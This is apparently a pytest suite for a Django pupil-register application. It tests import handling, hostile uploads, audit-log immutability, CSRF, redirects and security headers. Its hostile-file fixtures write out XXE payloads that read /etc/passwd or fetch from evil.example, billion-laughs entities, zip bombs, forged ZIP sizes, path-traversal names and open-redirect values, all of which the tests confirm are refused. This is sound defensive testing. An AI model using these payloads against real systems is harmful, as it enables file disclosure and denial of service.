def test_remapping_a_batch_being_confirmed_is_refused(world, client_for):
    lead = world.user("leading_teacher@own")
    batch = _checked_csv(world, client_for(lead))
    stale = ImportBatch.objects.get(pk=batch.pk)  # read by a second tab's request
    import_steps.confirm_import(lead, ImportBatch.objects.get(pk=batch.pk))
    with pytest.raises(ValidationError):
        import_steps.set_mapping(lead, stale, dict(stale.mapping))
    assert ImportBatch.objects.get(pk=batch.pk).state == "writing"


def test_another_schools_batch_cannot_be_confirmed_cancelled_or_mapped(world, client_for):
    """By the head and coordinator of "own", aimed at "other"'s batch (and the reverse is the
    outsider tests above)."""
    theirs = world.imports["other"]
    for who in ("head@own", "leading_teacher@own", "teacher+lead@own"):
        client = client_for(world.user(who))
        for name in (
            "register:register_import_confirm",
            "register:register_import_cancel",
            "register:register_import_mapping",
        ):
            assert (
                client.post(reverse(name, args=[theirs.pk]), {"map_upn": "UPN"}).status_code == 404
            )
        for name in ("register:register_import", "register:register_import_progress"):
            assert client.get(reverse(name, args=[theirs.pk])).status_code == 404
    theirs.refresh_from_db()
    assert theirs.state == "preview"


def test_an_uploaded_file_name_cannot_choose_where_the_file_is_kept(world, client_for):
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    for name in ("../../../../tmp/evil.csv", "..\\..\\evil.csv", f"{SCRIPT}.csv", "a\r\nb.csv"):
        response = _upload(client, school, name, tabular_files.csv_bytes(2, "sims"), format="csv")
        assert response.status_code == 302, name
        batch = ImportBatch.objects.filter(school=school).latest("pk")
        assert re.fullmatch(r"imports/[0-9a-f]{16}(_\w+)?\.csv", batch.file.name), batch.file.name
        assert not {"/", "\\", "\r", "\n"} & set(batch.file_name), batch.file_name


# --- hostile files -----------------------------------------------------------------------------

_BODY = ctf_files.ctf([ctf_files.pupil_xml(1, "names_at_pupil", surname="&xxe;")]).decode()
_BODY = _BODY.split("?>", 1)[1]  # without its XML declaration, to put a DTD before the root
_DECL = '<?xml version="1.0" encoding="UTF-8"?>'
_LAUGHS = (
    '<!DOCTYPE CTfile [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9))
    + "]>"
)
_XXE = '<!DOCTYPE CTfile [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
HOSTILE_CTFS = {
    "billion laughs": (_DECL + _LAUGHS + _BODY.replace("&xxe;", "&j;")).encode(),
    "external entity": (_DECL + _XXE + _BODY).encode(),
    "external DTD": (_DECL + '<!DOCTYPE CTfile SYSTEM "http://evil.example/ctf.dtd">'
                     + _BODY.replace("&xxe;", "Smith")).encode(),
    "parameter entity": (_DECL + '<!DOCTYPE CTfile [<!ENTITY % p SYSTEM "file:///etc/passwd">'
                         " %p;]>" + _BODY.replace("&xxe;", "Smith")).encode(),
    "lower-case doctype": (_DECL + _XXE.replace("DOCTYPE", "doctype") + _BODY).encode(),
    "deep nesting": (_DECL + "<CTfile>" + "<a>" * 5000 + "</a>" * 5000 + "</CTfile>").encode(),
    "huge text node": (_DECL + _BODY.replace("&xxe;", "S" * 12_000_000)).encode(),
    "not a CTF": b"<html><body><script>alert(1)</script></body></html>",
    "not XML": b"<<<<>>>> \x01\x02",
}  # fmt: skip


def _no_leak(*texts) -> None:
    for text in texts:
        assert "root:" not in str(text) and "/bin/" not in str(text)


def _check_uploaded(batch: ImportBatch) -> str:
    try:
        return check_import.call(batch.pk)
    finally:
        batch.refresh_from_db()


@pytest.mark.parametrize("name", HOSTILE_CTFS)
def test_a_hostile_ctf_is_refused_with_nothing_written(world, client_for, name):
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    pupils = Pupil.objects.count()
    response = _upload(client, school, "hostile.xml", HOSTILE_CTFS[name])
    if response.status_code == 400:  # refused at once
        assert "not a CTF" in response.text or "XML" in response.text
    else:
        assert response.status_code == 302
        batch = ImportBatch.objects.filter(school=school).latest("pk")
        assert _check_uploaded(batch) == "failed", batch.summary
        assert batch.state == "failed" and batch.message
        _no_leak(batch.message, batch.summary)
        page = client.get(reverse("register:register_import", args=[batch.pk]))
        assert page.status_code == 200 and "could not be imported" in page.text
        assert_inert(page.text)
    assert Pupil.objects.count() == pupils


_PADDED = (_DECL + "<!--" + "x" * 70_000 + "-->" + _XXE + _BODY).encode()
_UTF16 = (_DECL.replace("UTF-8", "UTF-16") + _XXE + _BODY).encode("utf-16-le")


@pytest.mark.parametrize("data", [_PADDED, _UTF16], ids=["DTD after 64 KiB", "UTF-16 DTD"])
def test_a_dtd_hidden_from_the_byte_check_is_still_refused(world, client_for, data):
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    response = _upload(client, school, "hidden.xml", data)
    assert response.status_code == 302
    batch = ImportBatch.objects.filter(school=school).latest("pk")
    outcome = _check_uploaded(batch)
    _no_leak(batch.message, batch.summary)  # harmless either way...
    assert outcome == "failed" and "document type" in batch.message  # ... but refused


def _xlsx(**changes) -> bytes:
    return _rezip(tabular_files.xlsx_bytes(3, "sims"), **changes)


def _rezip(data: bytes, replace=None, add=None) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            body = (replace or {}).get(info.filename) or src.read(info.filename)
            dst.writestr(info.filename, body)
        for name, body in (add or {}).items():
            dst.writestr(name, body)
    return out.getvalue()


def _claim_size(data: bytes, name: str, size: int) -> bytes:
    """The ZIP's central directory says ``name`` unpacks to ``size`` bytes (a lie)."""
    buf = bytearray(data)
    at = 0
    while (at := buf.find(b"PK\x01\x02", at)) != -1:
        length = struct.unpack_from("<H", buf, at + 28)[0]
        if bytes(buf[at + 46 : at + 46 + length]).decode() == name:
            struct.pack_into("<I", buf, at + 24, size)
        at += 4
    return bytes(buf)


def _with_doctype(data: bytes, part: str, doctype: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read(part).decode()
    head, rest = xml.split("?>", 1) if xml.startswith("<?xml") else ("", xml)
    return _rezip(data, replace={part: ((head + "?>") if head else "") + doctype + rest})


_XLSX_XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
_XLSX_LAUGHS = _LAUGHS.replace("CTfile", "x")
_PLAIN = tabular_files.xlsx_bytes(3, "sims")
_BOMB = _rezip(_PLAIN, add={"xl/media/image1.bin": b"\0" * 30_000_000})
_SHEET = "xl/worksheets/sheet1.xml"

HOSTILE_TABLES = {
    # name: (file name, bytes, what the refusal says)
    "CSV with a NUL in the header": ("p.csv", b"UPN,Sur\0name\r\n", "NUL"),
    "CSV that is UTF-16": ("p.csv", "UPN,Surname\r\n".encode("utf-16"), "UTF-16"),
    "CSV with a 1 MB header cell": ("p.csv", b"UPN," + b"x" * 1_048_576 + b"\r\n", "field"),
    "empty CSV": ("p.csv", b"", "empty"),
    "XLSX zip bomb": ("p.xlsx", _BOMB, "ZIP bomb"),
    "XLSX claiming 600 MB": ("p.xlsx", _claim_size(_PLAIN, _SHEET, 600 * 1024 * 1024), "unpack"),
    "XLSX lying small": ("p.xlsx", _claim_size(_PLAIN, _SHEET, 40), "workbook"),
    "XLSX external entity in the sheet": (
        "p.xlsx", _with_doctype(_PLAIN, _SHEET, _XLSX_XXE), "workbook"),
    "XLSX billion laughs in the sheet": (
        "p.xlsx", _with_doctype(_PLAIN, _SHEET, _XLSX_LAUGHS), "workbook"),
    "ZIP of path-traversal names only": ("p.xlsx", _rezip(
        _rezip(b"PK\x05\x06" + b"\0" * 18), add={"../../../../tmp/rt-evil.txt": b"x",
                                                 "/etc/rt-evil": b"x"}), "not an Excel"),
    "a Word document named .xlsx": (
        "p.xlsx", _rezip(b"PK\x05\x06" + b"\0" * 18, add={"word/document.xml": b"<w/>"}),
        "Word document"),
    "an old .xls": ("p.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Excel"),
    "a CSV named .xlsx": ("p.xlsx", tabular_files.csv_bytes(2, "sims"), "Excel"),
    "an XLSX named .csv": ("p.csv", _PLAIN, "spreadsheet"),
    "an XLSX named .xml": ("p.xml", _PLAIN, "not a CTF"),
    "a PNG named .csv": ("p.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "UTF-8"),
    "an ELF named .csv": ("p.csv", b"\x7fELF\x02\x01\x01\0\0\0", "NUL"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_TABLES)
def test_a_hostile_table_is_refused_at_upload_with_nothing_kept(world, client_for, name):
    file_name, data, says = HOSTILE_TABLES[name]
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    before = ImportBatch.objects.count(), Pupil.objects.count()
    response = _upload(client, school, file_name, data)
    assert response.status_code == 400, name
    assert says in response.text, response.text[-3000:]
    assert_inert(response.text)
    _no_leak(response.text)
    assert (ImportBatch.objects.count(), Pupil.objects.count()) == before


@pytest.mark.parametrize(
    "name", ["XLSX zip bomb", "CSV with a NUL in the header", "an XLSX named .csv"]
)
def test_a_hostile_table_is_refused_through_the_api(world, name):
    file_name, data, says = HOSTILE_TABLES[name]
    client = _api(world.user("leading_teacher@own"))
    before = ImportBatch.objects.count()
    response = client.post(
        f"/api/v1/schools/{world.schools['own'].pk}/imports",
        {"file": SimpleUploadedFile(file_name, data)},
        secure=True,
    )
    assert response.status_code == 400
    assert says in response.json()["detail"]
    assert ImportBatch.objects.count() == before


@pytest.mark.parametrize("name", ["external entity", "billion laughs", "not a CTF"])
def test_a_hostile_ctf_through_the_api_fails_its_check(world, name):
    client = _api(world.user("head@own"))
    response = client.post(
        f"/api/v1/schools/{world.schools['own'].pk}/imports",
        {"file": SimpleUploadedFile("hostile.xml", HOSTILE_CTFS[name])},
        secure=True,
    )
    assert response.status_code == 202
    batch = ImportBatch.objects.get(pk=response.json()["id"])
    assert _check_uploaded(batch) == "failed"
    shown = _call(client, "get", f"/imports/{batch.pk}").json()
    assert shown["state"] == "failed" and shown["message"]
    _no_leak(shown)


@pytest.mark.parametrize("part", ["xl/workbook.xml", "[Content_Types].xml", "_rels/.rels"])
def test_a_dtd_in_a_workbooks_package_parts_reaches_nothing(world, client_for, monkeypatch, part):
    """openpyxl parses these parts with lxml (resolve_entities=False, no network), not
    defusedxml: the file may be taken, but no entity is expanded and nothing is fetched."""
    import socket

    attempts = []
    monkeypatch.setattr(socket.socket, "connect", lambda self, a: attempts.append(a))
    doctype = (
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd" [<!ENTITY xxe SYSTEM '
        '"file:///etc/passwd"><!ENTITY rem SYSTEM "http://evil.example/e">]>'
    )
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    response = _upload(client, school, "p.xlsx", _with_doctype(_PLAIN, part, doctype))
    assert response.status_code in (302, 400)
    _no_leak(response.text)
    if response.status_code == 302:
        batch = ImportBatch.objects.filter(school=school).latest("pk")
        assert _map_and_check(client, batch) in ("checked", "failed")
        _no_leak(batch.summary, batch.message)
    assert attempts == []


def _map_and_check(client, batch: ImportBatch) -> str:
    data = {f"map_{k}": v for k, v in batch.mapping.items()}
    assert (
        client.post(reverse("register:register_import_mapping", args=[batch.pk]), data).status_code
        == 302
    )
    return _check_uploaded(batch)


@pytest.mark.parametrize(
    "fault",
    ["a NUL byte", "a 1 MB cell", "a byte that is not UTF-8", "a quote left open for 200 KB"],
)
def test_a_fault_deep_in_a_csv_fails_the_check_with_nothing_written(world, client_for, fault):
    rows = tabular_files.csv_bytes(40, "sims")
    bad = {
        "a NUL byte": b"\0",
        "a 1 MB cell": b'"' + b"x" * 1_048_576 + b'"',
        "a byte that is not UTF-8": b"\xff\xfe\xfa",
        "a quote left open for 200 KB": b'"' + b"x\r\n" * 70_000,
    }[fault]
    data = rows + bad + b",x\r\n"
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    pupils = Pupil.objects.count()
    assert _upload(client, school, "p.csv", data).status_code == 302
    batch = ImportBatch.objects.filter(school=school).latest("pk")
    assert _map_and_check(client, batch) == "failed"
    assert re.search(r"\b(Row|[Ll]ine) 42\b", batch.message), batch.message  # says where
    assert Pupil.objects.count() == pupils


def test_a_huge_upload_is_refused_before_it_is_read(world, client_for):
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    response = client.post(
        reverse("register:register_imports", args=[school.pk]),
        {"file": SimpleUploadedFile("p.csv", b"UPN\r\n")},
        CONTENT_LENGTH=str(10**12),
    )
    assert response.status_code == 413
    api = _api(world.user("leading_teacher@own")).post(
        f"/api/v1/schools/{school.pk}/imports",
        {"file": SimpleUploadedFile("p.csv", b"UPN\r\n")},
        CONTENT_LENGTH=str(10**12),
        secure=True,
    )
    assert api.status_code == 413

    claimed = SimpleUploadedFile("p.csv", b"UPN\r\n")
    claimed.size = 10**12  # what a streamed upload might claim
    with pytest.raises(ValidationError, match="larger than 200 MB"):
        import_steps.start_import(world.user("leading_teacher@own"), school, claimed)
    assert not ImportBatch.objects.filter(file_name="p.csv").exists()


def test_an_xlsx_with_external_links_or_traversal_names_reaches_nothing(
    world, client_for, monkeypatch, tmp_path
):
    import socket

    attempts = []

    def refuse(self, address):
        attempts.append(address)
        raise OSError("no network in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    rels = "xl/_rels/workbook.xml.rels"
    with zipfile.ZipFile(io.BytesIO(_PLAIN)) as archive:
        workbook_rels = archive.read(rels).decode()
    link = (
        '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
    )
    escape = tmp_path / "escaped.txt"
    linked = _rezip(
        _PLAIN,
        replace={rels: workbook_rels.replace("</Relationships>", link + "</Relationships>")},
        add={
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                '<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames>'
                "</externalBook></externalLink>"
            ),
            "xl/externalLinks/_rels/externalLink1.xml.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/externalLinkPath" '
                'Target="http://evil.example/book.xlsx" TargetMode="External"/>'
                '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/'
                '2006/relationships/externalLinkPath" Target="file:///etc/passwd" '
                'TargetMode="External"/></Relationships>'
            ),
            "../../../../../../" + str(escape).lstrip("/"): b"escaped",
            str(escape): b"escaped",
        },
    )
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    response = _upload(client, school, "linked.xlsx", linked)
    assert response.status_code in (302, 400)
    if response.status_code == 302:
        batch = ImportBatch.objects.filter(school=school).latest("pk")
        assert _map_and_check(client, batch) in ("checked", "failed")
        _no_leak(batch.summary, batch.message)
    assert attempts == [] and not escape.exists()


def test_a_table_with_ten_thousand_columns_is_refused(world, client_for):
    header = ",".join(
        ["UPN", "Surname", "Forename", "DOB", "Gender"] + [f"C{i}" for i in range(10_000)]
    )
    client = client_for(world.user("leading_teacher@own"))
    response = _upload(client, world.schools["own"], "wide.csv", (header + "\r\n").encode())
    assert response.status_code == 400


# --- the audit trail ---------------------------------------------------------------------------


def _new_events(user, since: int) -> list[str]:
    return list(
        AuditEvent.objects.filter(actor=user, pk__gt=since)
        .order_by("pk")
        .values_list("action", flat=True)
    )


def _last_event() -> int:
    return AuditEvent.objects.order_by("-pk").values_list("pk", flat=True).first() or 0


def test_every_pupil_level_read_writes_exactly_one_event(world, client_for):
    lead = world.user("leading_teacher@own")
    client = client_for(lead)
    api = _api(lead)
    own = world.schools["own"].pk
    record = world.records["own"].pk
    export = reverse("register:register_export", args=[own])
    # An import's page shows pupils' rows once it has checked some.
    ImportBatch.objects.filter(pk=world.imports["own"].pk).update(
        summary={"error_count": 0, "changes": [{"row": 2, "upn": "X", "name": "A B",
                                                "action": "create", "fields": []}]}
    )  # fmt: skip
    reads = [
        (lambda: client.get(reverse("register:register", args=[own])), "register.viewed"),
        (lambda: client.get(reverse("register:register_pupils", args=[own])),
         "register.pupils_viewed"),
        (lambda: client.get(reverse("register:register_pupil", args=[record])),
         "pupil_record.viewed"),
        (lambda: client.get(reverse("register:register_nominate", args=[record])),
         "pupil_record.viewed"),
        (lambda: client.get(reverse("register:register_screening", args=[own])),
         "register.screening_viewed"),
        (lambda: client.get(reverse("register:register_equity", args=[own])),
         "register.equity_viewed"),
        (lambda: client.get(reverse("register:register_import", args=[world.imports["own"].pk])),
         "register.viewed"),
        *[(lambda what=what: client.post(export, {"what": what, "why": "governors"}),
           "register.exported") for what in ("census", "csv", "xlsx", "pdf")],
        (lambda: client.post(reverse("register:register_leaver_ctf", args=[record]),
                             {"why": "transfer"}),
         "register.exported"),
        (lambda: _call(api, "get", f"/schools/{own}/pupils?per_page=1"), "register.api_read"),
        (lambda: _call(api, "get", f"/schools/{own}/register"), "register.api_read"),
        (lambda: _call(api, "get", f"/pupils/{record}"), "register.api_read"),
    ]  # fmt: skip
    for read, action in reads:
        since = _last_event()
        response = read()
        assert response.status_code == 200
        assert _new_events(lead, since) == [action]
    # Pages without pupil-level data write nothing.
    for name in (
        "register:register_criteria",
        "register:register_imports",
        "register:register_export",
    ):
        since = _last_event()
        assert client.get(reverse(name, args=[own])).status_code == 200
        assert _new_events(lead, since) == [], name


@pytest.mark.parametrize("state", ["done", "failed"])
def test_reading_a_finished_imports_pupil_rows_is_audited(world, client_for, state):
    lead = world.user("leading_teacher@own")
    change = {"row": 2, "upn": "A123", "name": "Ada Own", "action": "create", "fields": []}
    error = {"row": 3, "upn": "B456", "field": "Surname", "reason": "'Ben\\t' contains a tab"}
    summary = {"creates": 1, "error_count": 1 if state == "failed" else 0,
               "errors": [error] if state == "failed" else [], "changes": [change]}  # fmt: skip
    batch = ImportBatch.objects.create(
        school=world.schools["own"],
        uploaded_by=lead,
        file_name="p.csv",
        sha256="6" * 64,
        format="csv",
        state=state,
        summary={"written": summary} if state == "done" else summary,
    )
    since = _last_event()
    page = client_for(lead).get(reverse("register:register_import", args=[batch.pk]))
    assert "Ada Own" in page.text
    assert _new_events(lead, since) == ["register.viewed"]


def test_reading_an_imports_rows_through_the_api_is_audited(world):
    lead = world.user("leading_teacher@own")
    batch = world.imports["own"]
    ImportBatch.objects.filter(pk=batch.pk).update(
        summary={"error_count": 1, "errors": [
            {"row": 2, "upn": "A123", "field": "Surname", "reason": "'Ada\\t' contains a tab"}]}
    )  # fmt: skip
    since = _last_event()
    response = _call(_api(lead), "get", f"/imports/{batch.pk}")
    assert response.status_code == 200 and response.json()["errors"][0]["upn"] == "A123"
    assert _new_events(lead, since) == ["register.api_read"]


@pytest.mark.parametrize(
    "name, data",
    [
        ("register:register_evidence", {"kind": ""}),
        ("register:register_decide", {"status": ""}),
        ("register:register_leaver_ctf", {"why": ""}),
    ],
)
def test_a_record_shown_after_a_refused_form_is_audited(world, client_for, name, data):
    lead = world.user("leading_teacher@own")
    record = world.records["own"]
    since = _last_event()
    response = client_for(lead).post(reverse(name, args=[record.pk]), data)
    assert response.status_code == 400 and record.upn in response.text
    assert _new_events(lead, since) == ["pupil_record.viewed"]


def test_an_audit_event_cannot_be_changed_or_deleted_through_the_model(world, client_for):
    client_for(world.user("leading_teacher@own")).get(
        reverse("register:register_pupil", args=[world.records["own"].pk])
    )
    event = AuditEvent.objects.get(action="pupil_record.viewed")
    event.detail = {"why": "nothing to see"}
    with pytest.raises(ValueError):
        event.save()
    with pytest.raises(ValueError):
        event.delete()
    assert AuditEvent.objects.get(pk=event.pk).detail["why"] == "Pupil record page"
    # Entries and evidence: the same.
    entry = RegisterEntry.objects.filter(pupil=world.records["own"]).first()
    evidence = Evidence.objects.filter(pupil=world.records["own"]).first()
    for obj in (entry, evidence):
        with pytest.raises(ValueError):
            obj.save()
        with pytest.raises(ValueError):
            obj.delete()


@pytest.mark.parametrize("how", ["update", "delete"])
def test_the_audit_log_cannot_be_rewritten_in_bulk(world, client_for, how):
    client_for(world.user("leading_teacher@own")).get(
        reverse("register:register", args=[world.schools["own"].pk])
    )
    events = AuditEvent.objects.filter(action="register.viewed")
    with pytest.raises((ValueError, TypeError, NotImplementedError)):
        if how == "update":
            events.update(detail={})
        else:
            events.delete()
    assert AuditEvent.objects.filter(action="register.viewed", detail__why="Register page").exists()


def test_the_audit_admin_is_read_only(world, client_for):
    client_for(world.user("leading_teacher@own")).get(
        reverse("register:register", args=[world.schools["own"].pk])
    )
    event = AuditEvent.objects.get(action="register.viewed")
    admin = client_for(world.user("site_admin@site"))
    assert admin.get(reverse("admin:audit_auditevent_changelist")).status_code == 200
    change = reverse("admin:audit_auditevent_change", args=[event.pk])
    page = admin.get(change)
    assert page.status_code == 200 and 'name="_save"' not in page.text
    assert admin.post(change, {"action": "x", "detail": "{}"}).status_code == 403
    assert admin.get(reverse("admin:audit_auditevent_add")).status_code == 403
    assert AuditEvent.objects.get(pk=event.pk).action == "register.viewed"
    # Nobody but a site administrator reaches it at all.
    for who in ("head@own", "leading_teacher@own", "la_lead@own"):
        response = client_for(world.user(who)).get(reverse("admin:audit_auditevent_changelist"))
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


@pytest.mark.parametrize("how", ["bulk action", "delete view"])
def test_a_site_admin_cannot_delete_audit_events(world, client_for, how):
    client_for(world.user("leading_teacher@own")).get(
        reverse("register:register", args=[world.schools["own"].pk])
    )
    event = AuditEvent.objects.get(action="register.viewed")
    admin = client_for(world.user("site_admin@site"))
    admin.raise_request_exception = False
    if how == "bulk action":
        response = admin.post(
            reverse("admin:audit_auditevent_changelist"),
            {"action": "delete_selected", "_selected_action": [event.pk], "post": "yes"},
        )
    else:
        response = admin.post(
            reverse("admin:audit_auditevent_delete", args=[event.pk]), {"post": "yes"}
        )
    assert response.status_code in (200, 302, 403)
    assert AuditEvent.objects.filter(pk=event.pk).exists()
    assert admin.get(reverse("admin:audit_auditevent_delete", args=[event.pk])).status_code == 403


# --- the rest: CSRF, redirects, headers, what stays on disk ------------------------------------


def test_no_register_form_works_without_its_csrf_token(world):
    user = world.user("head@own")
    client = Client(enforce_csrf_checks=True)
    client.defaults["wsgi.url_scheme"] = "https"
    client.force_login(user)
    before = _snapshot()
    for method, url, data in _web_requests(world):
        if method == "post":
            response = client.post(url, data, secure=True)
            assert response.status_code == 403, url
    assert _snapshot() == before
    # The API over the session cookie needs the token too (a bearer token needs none).
    for method, path, body in _api_requests(world):
        if method == "post":
            assert _call(client, "post", path, body).status_code == 403, path
    upload = client.post(
        f"/api/v1/schools/{world.schools['own'].pk}/imports",
        {"file": SimpleUploadedFile("p.csv", tabular_files.csv_bytes(2, "sims"))},
        secure=True,
    )
    assert upload.status_code == 403
    assert _snapshot() == before


def test_register_redirects_never_leave_the_site(world, client_for):
    client = client_for(world.user("leading_teacher@own"))
    record = world.records["2@own"].pk
    evil = {"next": "https://evil.example/", "redirect_to": "//evil.example/"}
    responses = [
        client.post(reverse("register:register_nominate", args=[record]),
                    {"summary": "x", "domains": ["maths"], **evil}),
        client.post(reverse("register:register_evidence", args=[record]),
                    {"kind": "test_score", "summary": "x", **evil}),
        client.post(reverse("register:register_sharing", args=[world.schools["own"].pk]),
                    {"reference": "R", "starts_on": "2024-01-01", **evil}),
        client.post(reverse("register:register_import_cancel", args=[world.imports["own"].pk]),
                    evil),
        client.get(reverse("register:register_pupil", args=[record]) + "?next=https://evil.example/"),
    ]  # fmt: skip
    for response in responses:
        if response.status_code in (301, 302, 303, 307, 308):
            assert response["Location"].startswith("/") and not response["Location"].startswith(
                "//"
            ), response["Location"]


def test_register_pages_are_not_cached_framed_or_sniffed(world, client_for):
    _hostile_world(world)
    client = client_for(world.user("leading_teacher@own"))
    own = world.schools["own"].pk
    for url in (
        reverse("register:register", args=[own]),
        reverse("register:register_pupils", args=[own]),
        reverse("register:register_pupil", args=[world.records["own"].pk]),
        reverse("register:register_import", args=[world.imports["own"].pk]),
        reverse("register:register_audit", args=[own]),
    ):
        response = client.get(url)
        assert "no-store" in response["Cache-Control"], url
        assert response["X-Frame-Options"] == "DENY"
        assert response["X-Content-Type-Options"] == "nosniff"
        csp = response.get("Content-Security-Policy", "")
        assert "script-src" in csp or "default-src" in csp, url
        assert "'unsafe-inline'" not in csp.split("script-src", 1)[-1].split(";", 1)[0]


def test_a_failed_import_leaves_no_pupil_data_on_disk(world, client_for):
    client = client_for(world.user("leading_teacher@own"))
    school = world.schools["own"]
    _upload(client, school, "bad.xml", HOSTILE_CTFS["external entity"])
    batch = ImportBatch.objects.filter(school=school).latest("pk")
    assert _check_uploaded(batch) == "failed"
    assert not batch.file
